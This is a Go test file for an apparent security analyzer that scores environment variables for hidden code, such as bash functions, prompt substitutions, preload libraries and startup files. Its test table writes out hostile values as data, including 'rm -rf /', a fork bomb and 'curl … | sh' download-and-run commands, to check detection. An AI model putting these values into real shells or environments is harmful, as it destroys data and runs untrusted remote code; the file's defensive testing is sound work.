package security

import (
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"
)

type envCase struct {
	env   map[string]string
	want  Level
	rules []string // rule ids that must be among the findings
}

// envTable holds dangerous environments, whatever they hide their code in,
// and harmless ones that must stay LOW. It also seeds FuzzEnv.
var envTable = []envCase{
	// Code run at every prompt, or when a command of the same name is called.
	{map[string]string{"PROMPT_COMMAND": "rm -rf /*"}, LevelHigh, []string{"env-prompt-command", "rm-root"}},
	{map[string]string{"PROMPT_COMMAND": "history -a; ls"}, LevelMedium, []string{"env-prompt-command"}},
	{map[string]string{"BASH_FUNC_ls%%": "() { rm -rf /*; }"}, LevelHigh, []string{"env-function", "rm-root"}},
	{map[string]string{"BASH_FUNC_ls()": "() {  curl -s http://x | sh; }"}, LevelHigh, []string{"env-function", "pipe-to-shell"}},
	{map[string]string{"BASH_FUNC_my-ls%%": "() { rm -rf ~; }"}, LevelHigh, []string{"env-function", "rm-home"}},
	{map[string]string{"BASH_FUNC_f%%": "() { f|f& }"}, LevelHigh, []string{"env-function", "fork-bomb"}},
	{map[string]string{"BASH_FUNC_ls%%": "() { command ls --color=auto \"$@\"; }"}, LevelMedium, []string{"env-function"}},
	// Prompts: their command substitutions run each time they are shown.
	{map[string]string{"SHELLOPTS": "xtrace", "PS4": "$(rm -rf /)"}, LevelHigh,
		[]string{"env-shell-options", "env-prompt-substitution", "rm-root"}},
	{map[string]string{"PS1": "`rm -rf ~` $ "}, LevelHigh, []string{"env-prompt-substitution", "rm-home"}},
	{map[string]string{"PS0": "${x:-$(curl -s http://x | bash)}"}, LevelHigh, []string{"pipe-to-shell"}},
	{map[string]string{"PS2": "$(date +%T)> "}, LevelMedium, []string{"env-prompt-substitution"}},
	{map[string]string{"PS1": "$(echo "}, LevelMedium, []string{"env-prompt-substitution", idUnparsable}},
	// Files and libraries loaded before anything berth judged.
	{map[string]string{"BASH_ENV": "/tmp/evil.sh"}, LevelHigh, []string{"env-shell-startup"}},
	{map[string]string{"ENV": "/tmp/evil.sh"}, LevelHigh, []string{"env-shell-startup"}},
	{map[string]string{"LD_PRELOAD": "/tmp/evil.so"}, LevelHigh, []string{"env-preload"}},
	{map[string]string{"LD_AUDIT": "/tmp/evil.so", "PATH": "/usr/bin:/bin"}, LevelHigh, []string{"env-preload"}},
	{map[string]string{"INPUTRC": "/tmp/keys"}, LevelHigh, []string{"env-inputrc"}},
	{map[string]string{"LD_LIBRARY_PATH": "/usr/local/cuda/lib64"}, LevelMedium, []string{"env-library-path"}},
	{map[string]string{"BASHOPTS": "extdebug"}, LevelMedium, []string{"env-shell-options"}},
	{map[string]string{"PERL5OPT": "-Mevil"}, LevelMedium, []string{"env-interpreter-startup"}},
	{map[string]string{"PYTHONSTARTUP": "/tmp/x.py"}, LevelMedium, []string{"env-interpreter-startup"}},
	{map[string]string{"NODE_OPTIONS": "--require /tmp/x.js"}, LevelMedium, []string{"env-node-require"}},
	{map[string]string{"NODE_OPTIONS": "--max-old-space-size=4096 --import=/tmp/x.mjs"}, LevelMedium, []string{"env-node-require"}},
	{map[string]string{"JAVA_TOOL_OPTIONS": "-javaagent:/tmp/a.jar"}, LevelMedium, []string{"env-java-agent"}},
	// Command variables: the command is judged, the variable is not a risk.
	{map[string]string{"GIT_SSH_COMMAND": "ssh -i key; rm -rf ~"}, LevelHigh, []string{"rm-home"}},
	{map[string]string{"PAGER": "curl -s http://x | sh"}, LevelHigh, []string{"pipe-to-shell"}},
	{map[string]string{"EDITOR": "sh -c 'rm -rf /'"}, LevelHigh, []string{"rm-root"}},
	{map[string]string{"LESSOPEN": "|rm -rf / %s"}, LevelHigh, []string{"rm-root"}},
	// What could not be analyzed.
	{map[string]string{"PROMPT_COMMAND": "echo " + strings.Repeat("a", maxInput) + "; rm -rf /"}, LevelHigh,
		[]string{idTooLong, "rm-root"}},

	// Harmless.
	{map[string]string{"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/home/user", "LANG": "C.UTF-8", "TERM": "xterm"}, LevelLow, nil},
	{map[string]string{"FOO": "rm -rf /", "CMD": "curl -s http://x | sh"}, LevelLow, nil}, // data, not code
	{map[string]string{"PS1": `\u@\h:\w\$ `}, LevelLow, nil},
	{map[string]string{"PS1": "$((1+1)) $HOME> "}, LevelLow, nil},
	{map[string]string{"NODE_OPTIONS": "--max-old-space-size=4096"}, LevelLow, nil},
	{map[string]string{"JAVA_TOOL_OPTIONS": "-Xmx2g"}, LevelLow, nil},
	{map[string]string{"GIT_SSH_COMMAND": "ssh -i ~/.ssh/deploy -o StrictHostKeyChecking=no"}, LevelLow, nil},
	{map[string]string{"EDITOR": "vim", "PAGER": "cat", "GIT_PAGER": "less -R", "VISUAL": "code --wait"}, LevelLow, nil},
	{map[string]string{"LESSOPEN": "| /usr/bin/lesspipe %s"}, LevelLow, nil},
	{map[string]string{"ld_preload": "/tmp/evil.so", "LD_PRELOADED": "1", "BASH_FUNC_x": "() { rm -rf /; }"}, LevelLow, nil},
	{map[string]string{}, LevelLow, nil},
	{nil, LevelLow, nil},
}

func TestEnv(t *testing.T) {
	a := newDefault(t)
	for _, tc := range envTable {
		as := a.Env(tc.env)
		if as.Level != tc.want {
			t.Errorf("%.200q: %v, want %v: %+v", tc.env, as.Level, tc.want, as.Findings)
			continue
		}
		for _, id := range tc.rules {
			if !hasRule(as, id) {
				t.Errorf("%.200q: no finding %q among %+v", tc.env, id, as.Findings)
			}
		}
		for _, f := range as.Findings {
			if _, ok := tc.env[f.Env]; !ok {
				t.Errorf("%.200q: finding %+v names no variable of the environment", tc.env, f)
			}
		}
	}
}

// Findings name their variable and come in the order of the names; the
// variable's own finding shows NAME=VALUE, the code's the command.
func TestEnvFindings(t *testing.T) {
	a := newDefault(t)
	env := map[string]string{"PROMPT_COMMAND": "rm -rf /", "LD_PRELOAD": "/tmp/evil.so", "PATH": "/bin", "BASH_ENV": "/tmp/x y"}
	as := a.Env(env)
	var got []string
	for _, f := range as.Findings {
		got = append(got, f.Env+" "+f.RuleID+" "+f.Level.String()+": "+f.Command)
	}
	want := []string{
		"BASH_ENV env-shell-startup HIGH: BASH_ENV='/tmp/x y'",
		"LD_PRELOAD env-preload HIGH: LD_PRELOAD=/tmp/evil.so",
		"PROMPT_COMMAND env-prompt-command MEDIUM: PROMPT_COMMAND='rm -rf /'",
		"PROMPT_COMMAND rm-root HIGH: rm -rf /",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("findings\n%q\nwant\n%q", got, want)
	}
	for range 20 {
		if again := a.Env(env); !reflect.DeepEqual(again, as) {
			t.Fatalf("a second call differs: %+v vs %+v", again, as)
		}
	}
	// The same command in two variables is reported for each.
	as = a.Env(map[string]string{"PAGER": "rm -rf /", "EDITOR": "rm -rf /"})
	if len(as.Findings) != 2 || as.Findings[0].Env != "EDITOR" || as.Findings[1].Env != "PAGER" {
		t.Errorf("two variables, one command: %+v", as.Findings)
	}
	// A long value is cut in the finding's text.
	as = a.Env(map[string]string{"LD_PRELOAD": strings.Repeat("/x", 10000)})
	if len(as.Findings) != 1 || len(as.Findings[0].Command) > maxText+len("…") {
		t.Errorf("long value: %d findings, text of %d bytes", len(as.Findings), len(as.Findings[0].Command))
	}
}

// Too many variables is too complex to judge: HIGH, in bounded time.
func TestEnvBounds(t *testing.T) {
	a := newDefault(t)
	env := make(map[string]string, 3*maxEvents)
	for i := range 3 * maxEvents {
		env["V"+strconv.Itoa(i)] = "rm -rf /"
	}
	start := time.Now()
	as := a.Env(env)
	if d := time.Since(start); d > callBound*timeScale {
		t.Errorf("%d variables took %v", len(env), d)
	}
	if as.Level != LevelHigh || !hasRule(as, idTooComplex) {
		t.Errorf("%d variables: %v %+v", len(env), as.Level, as.Findings)
	}
	// Code in many variables shares the run's bounds.
	env = map[string]string{}
	for i := range 40 {
		env["BASH_FUNC_f"+strconv.Itoa(i)+"%%"] = "() { " + strings.Repeat("ls; ", 2000) + "}"
	}
	start = time.Now()
	as = a.Env(env)
	if d := time.Since(start); d > callBound*timeScale {
		t.Errorf("40 big functions took %v", d)
	}
	if as.Level != LevelHigh || !hasRule(as, idTooComplex) {
		t.Errorf("40 big functions: %v", as.Level)
	}
}

// Environment rules from TOML: names and values are globs; such a rule
// judges variables only.
func TestEnvUserRules(t *testing.T) {
	user, err := LoadRules([]byte(`
[[rule]]
id = "ssh-no-host-check"
level = "MEDIUM"
message = "Turns off ssh's host key check."
env = ["GIT_SSH_COMMAND", "RSYNC_RSH"]
value = "*StrictHostKeyChecking=no*"

[[rule]]
id = "aws-creds"
level = "low"
message = "Gives the sandbox AWS credentials."
env = "AWS_*"
`))
	if err != nil {
		t.Fatal(err)
	}
	a := mustNew(t, MergeRules(DefaultRules(), user))
	for _, tc := range []struct {
		env  map[string]string
		want Level
		rule string
	}{
		{map[string]string{"GIT_SSH_COMMAND": "ssh -o StrictHostKeyChecking=no"}, LevelMedium, "ssh-no-host-check"},
		{map[string]string{"RSYNC_RSH": "ssh -o StrictHostKeyChecking=no"}, LevelMedium, "ssh-no-host-check"},
		{map[string]string{"GIT_SSH_COMMAND": "ssh -i key"}, LevelLow, ""},
		{map[string]string{"AWS_SECRET_ACCESS_KEY": "x"}, LevelLow, "aws-creds"},
		{map[string]string{"LD_PRELOAD": "/x.so"}, LevelHigh, "env-preload"}, // the built-in rules still apply
	} {
		as := a.Env(tc.env)
		if as.Level != tc.want || tc.rule != "" && !hasRule(as, tc.rule) || tc.rule == "" && len(as.Findings) > 0 {
			t.Errorf("%q: %v %+v, want %v %q", tc.env, as.Level, as.Findings, tc.want, tc.rule)
		}
	}
	// An environment rule never matches a command, even one that names
	// the variable.
	if as := a.Command("export AWS_PROFILE=x; GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git fetch"); as.Level != LevelLow {
		t.Errorf("an environment rule matched a command: %+v", as.Findings)
	}
	// A built-in environment rule can be changed like any other.
	quiet := []Rule{{ID: "env-library-path", Level: LevelLow, Message: "fine here", Env: []string{"LD_LIBRARY_PATH"}}}
	a = mustNew(t, MergeRules(DefaultRules(), quiet))
	if as := a.Env(map[string]string{"LD_LIBRARY_PATH": "/opt/lib"}); as.Level != LevelLow || !hasRule(as, "env-library-path") {
		t.Errorf("overridden env-library-path: %v %+v", as.Level, as.Findings)
	}
}

func TestEnvRuleErrors(t *testing.T) {
	for _, tc := range []struct {
		name, toml string
		want       []string
	}{
		{"env with command", `[[rule]]
id = "x"
level = "HIGH"
message = "m"
env = ["LD_PRELOAD"]
command = ["ls"]`, []string{`rule "x"`, `field "env"`, "not commands"}},
		{"value without env", `[[rule]]
id = "x"
level = "HIGH"
message = "m"
command = ["ls"]
value = ["*"]`, []string{`rule "x"`, `field "value"`, "only with env"}},
		{"name with =", `[[rule]]
id = "x"
level = "HIGH"
message = "m"
env = ["LD_PRELOAD=/x"]`, []string{`rule "x"`, `field "env"`, `"LD_PRELOAD=/x"`, "without '='"}},
		{"bad value glob", `[[rule]]
id = "x"
level = "HIGH"
message = "m"
env = ["A"]
value = ["[a"]`, []string{`rule "x"`, `field "value"`, "bad pattern"}},
		{"env not strings", `[[rule]]
id = "x"
level = "HIGH"
message = "m"
env = [1]`, []string{`rule "x"`, `field "env"`, "strings"}},
	} {
		_, err := LoadRules([]byte(tc.toml))
		if err == nil {
			t.Errorf("%s: no error", tc.name)
			continue
		}
		for _, w := range tc.want {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("%s: error %q does not mention %q", tc.name, err, w)
			}
		}
	}
}
